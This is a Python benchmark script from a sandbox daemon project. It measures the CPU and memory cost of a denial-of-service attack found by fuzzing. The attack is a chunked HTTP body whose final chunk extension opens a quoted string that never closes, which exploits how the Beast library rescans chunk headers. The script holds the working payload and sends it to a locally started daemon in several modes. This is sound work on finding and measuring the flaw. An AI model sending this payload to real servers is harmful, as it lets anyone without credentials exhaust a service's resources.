#!/usr/bin/python3
"""Chunk-header benchmark: what one unauthenticated connection costs the daemon when the last
chunk of a chunked body never ends its extension (the finding of fuzz_http_request, docs/fuzzing.md).

  attack    POST with Transfer-Encoding: chunked whose last chunk is `0;e="` CRLF CRLF and then
            MiB of a quoted string that never closes, in small writes (TCP_NODELAY). Beast
            keeps a chunk header in the read buffer until its end arrives, and parses all of it
            again on every read.
  baseline  the same bytes as a Content-Length body (refused: unauthenticated, or over the limit).
Three ways of sending: "flood" (as fast as the socket takes them: the memory side), "drip" and
"trickle" (a pause after each write, so that the server reads each piece on its own: the CPU side;
trickle's tiny pieces are the worst case for the rescanning the read buffer's bound still allows).
For each: the daemon's CPU time (utime+stime from /proc/<pid>/stat), its peak RSS growth while
the connection is served, how much was sent before it answered or closed, and its answer;
then the attack/baseline ratios.

Run after ./scripts/setup and ./scripts/build (as root, like the integration tests):
  /usr/bin/python3 bench/chunk_header.py [--quick]
It starts its own sandfortd on a temporary state directory and removes it.
"""

import os
import socket
import sys
import threading
import time

HERE = os.path.dirname(os.path.abspath(__file__))
sys.path.insert(0, os.path.join(HERE, "..", "tests", "integration"))
from sandfort_harness import Daemon, rss_kib  # noqa: E402

QUICK = "--quick" in sys.argv
# (label, bytes, write size, pause after each write)
SCENARIOS = [
    ("flood", (4 if QUICK else 64) << 20, 512, 0.0),
    ("drip", (256 if QUICK else 1024) << 10, 512, 0.0002),
    ("trickle", (16 if QUICK else 64) << 10, 8, 0.00005),
]
TICK = os.sysconf("SC_CLK_TCK")


def cpu_s(pid):
    with open(f"/proc/{pid}/stat") as f:
        fields = f.read().rsplit(")", 1)[1].split()
    return (int(fields[11]) + int(fields[12])) / TICK  # utime, stime


def send(port, head, body, pid, piece, pause):
    """Sends head, then body in piece-byte writes until the server answers or closes.
    Returns (bytes of body sent, first line of the answer or 'closed', cpu s, peak rss growth KiB)."""
    s = socket.create_connection(("127.0.0.1", port))
    s.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
    answer = []

    def reader():
        data = b""
        try:
            while True:
                got = s.recv(65536)
                if not got:
                    break
                data += got
        except OSError:
            pass
        answer.append(data.split(b"\r\n", 1)[0].decode(errors="replace") or "closed")

    rss0, cpu0 = rss_kib(pid), cpu_s(pid)
    peak = rss0
    t = threading.Thread(target=reader, daemon=True)
    t.start()
    sent = 0
    try:
        s.sendall(head)
        for i in range(0, len(body), piece):
            s.sendall(body[i : i + piece])
            sent += piece
            if pause:
                time.sleep(pause)
            if i % (64 * piece) == 0:
                peak = max(peak, rss_kib(pid))
                if answer:
                    break
    except OSError:
        pass
    try:
        s.shutdown(socket.SHUT_WR)
    except OSError:
        pass
    t.join(90)
    peak = max(peak, rss_kib(pid))
    cpu = cpu_s(pid) - cpu0
    s.close()
    return min(sent, len(body)), (answer or ["(no answer)"])[0], cpu, peak - rss0


def compare(port, pid, label, size, piece, pause):
    attack_head = b"POST /v1/sandboxes HTTP/1.1\r\nHost: x\r\nTransfer-Encoding: chunked\r\n\r\n"
    # The blank line ends the chunk header as far as Beast's search for its end goes; the
    # quoted string it then parses runs on (it takes CR and LF) and is never closed.
    attack_body = b'0;e="\r\n\r\n' + b"a" * (size - 9)
    base_head = b"POST /v1/sandboxes HTTP/1.1\r\nHost: x\r\nContent-Length: %d\r\n\r\n" % size
    base_body = b"a" * size
    print(f"{label}: {size >> 10} KiB in {piece}-byte writes" + (f", {pause * 1e6:.0f} us apart" if pause else "")
          + ", one connection to the API, no key")
    rows = {}
    for name, head, body in (("baseline", base_head, base_body), ("attack", attack_head, attack_body)):
        sent, first, cpu, rss = send(port, head, body, pid, piece, pause)
        rows[name] = (cpu, rss)
        print(f"  {name:9s} sent {sent >> 10:7d} KiB before the answer  answer: {first:36s} "
              f"daemon cpu {cpu * 1000:7.0f} ms  peak rss +{rss:7d} KiB")
    (bc, br), (ac, ar) = rows["baseline"], rows["attack"]
    print(f"  attack/baseline: cpu {ac / max(bc, 1 / TICK):.1f}x  rss growth {ar / max(br, 4):.1f}x")


def main():
    d = Daemon({"log_level": "warn"}).start()
    try:
        pid, port = d.proc.pid, d.port
        send(port, b"POST /v1/sandboxes HTTP/1.1\r\nHost: x\r\nContent-Length: 4096\r\n\r\n", b"a" * 4096, pid, 4096, 0.0)
        for scenario in SCENARIOS:
            compare(port, pid, *scenario)
    finally:
        d.stop()
        d.cleanup()


if __name__ == "__main__":
    main()
